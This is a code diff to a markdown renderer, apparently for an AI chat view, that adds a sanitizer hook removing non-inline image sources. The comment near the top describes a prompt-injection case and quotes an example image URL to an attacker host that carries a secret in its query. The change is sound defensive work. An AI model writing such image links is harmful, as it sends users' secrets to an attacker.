@@ -53,6 +53,14 @@ const PURIFY_CONFIG: Config = {
 	ALLOW_DATA_ATTR: false,
 };
 
+/**
+ * The only images an answer may show: inline `data:image/…` ones, which load nothing. Every other `src` is removed,
+ * remote or relative: a model can be led (by a file or web page it read) to write `![](https://evil.test/?q=<secret>)`,
+ * and fetching that image would send the secret away. The CSP blocks remote hosts too, but not the webview's own
+ * resource origin, and a sanitizer that leaves the request to the CSP still makes the browser attempt it.
+ */
+const INLINE_IMAGE = /^data:image\//i;
+
 const GROUP_SEPARATOR_CLASS = 'md-group-separator';
 const GROUP_SEPARATOR = `<hr class="${GROUP_SEPARATOR_CLASS}">`;
 
@@ -90,7 +98,8 @@ function escapeHtml(text: string): string {
  *
  * Both libraries are passed in rather than imported: the browser bundle passes the global DOMPurify, tests pass
  * one bound to a jsdom window. The `marked` instance is configured here (call this once per instance); so is the
- * DOMPurify instance, which gets our config and a hook that adds `rel="noopener"` to links.
+ * DOMPurify instance, which gets our config and a hook that adds `rel="noopener"` to links and removes the `src` of
+ * images that are not inline data (see {@link INLINE_IMAGE}).
  */
 export function createMarkdownRenderer(marked: Marked, purify: DOMPurify, highlight?: HighlightSetup): MarkdownRenderer {
 	marked.use({
@@ -103,6 +112,9 @@ export function createMarkdownRenderer(marked: Marked, purify: DOMPurify, highli
 	purify.addHook('afterSanitizeAttributes', (node) => {
 		if (node.nodeName === 'A') {
 			node.setAttribute('rel', 'noopener');
+		} else if (node.nodeName === 'IMG' && !INLINE_IMAGE.test(node.getAttribute('src') ?? '')) {
+			// Shown as its alt text: an answer's image would otherwise be fetched, and its URL can carry data out.
+			node.removeAttribute('src');
 		}
 	});
 	// Set once: passing the config to every sanitize() call makes DOMPurify parse it again each time, which doubled
